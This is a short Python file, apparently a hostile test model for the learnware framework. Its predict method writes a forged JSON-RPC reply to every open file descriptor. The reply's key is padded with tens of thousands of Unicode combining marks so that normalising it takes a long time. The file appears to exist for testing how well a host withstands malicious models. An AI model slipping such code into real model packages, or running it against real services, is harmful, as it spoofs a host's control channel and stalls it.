"""Writes a whole reply of its own, with a key that takes a minute to normalise."""
import os

from learnware.model import BaseModel

REPLY = (
    b'{"jsonrpc":"2.0","id":2,"a' + b"\xcc\x80" * 40000 + b"\xcc\xa3" * 40000 + b'":1,"result":{}}\n'
)


class Model(BaseModel):
    def __init__(self):
        super().__init__(input_shape=(2,), output_shape=(1,))

    def predict(self, X):
        for descriptor in range(3, 256):
            try:
                os.write(descriptor, REPLY)
            except OSError:
                pass
        return X.sum(axis=1)
